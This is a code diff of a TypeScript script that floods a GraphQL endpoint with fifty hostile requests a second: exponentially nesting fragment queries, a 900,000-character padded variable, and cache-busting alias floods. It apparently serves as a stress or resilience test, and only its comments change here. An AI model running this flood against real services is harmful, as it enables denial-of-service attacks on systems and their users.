@@ -1,7 +1,7 @@
 import { setTimeout as wait } from 'node:timers/promises';
 import { send } from './target.ts';
 
-/** Fifty requests a second of everything that is meant to hurt, until it is stopped. */
+/** Sends fifty hostile requests a second, of every kind in turn, until it is stopped. */
 const [url = '', token = ''] = process.argv.slice(2);
 const doubling = `{ region(code: "63") { ...f0 } } ${Array.from({ length: 22 }, (_, n) => `fragment f${n} on Region { a: parent { ...f${n + 1} } b: parent { ...f${n + 1} } }`).join(' ')} fragment f22 on Region { code }`;
 const json = { 'content-type': 'application/json', authorization: `Bearer ${token}` };
@@ -9,7 +9,7 @@ const body = (query: string, variables: object = {}) => JSON.stringify({ query, 
 const heavy = body('{ __typename }', { a: 'x'.repeat(900_000) });
 const requests: ((n: number) => RequestInit)[] = [
   () => ({ headers: json, body: body(doubling) }),
-  // Never the same text twice: nothing that was measured or planned before helps.
+  // Every text is new, so that no cached measurement or plan applies.
   (n) => ({
     headers: json,
     body: body(`{ ${Array.from({ length: 28 }, (_, k) => `a${n}_${k}: region(code: "63") { name }`).join(' ')} }`),
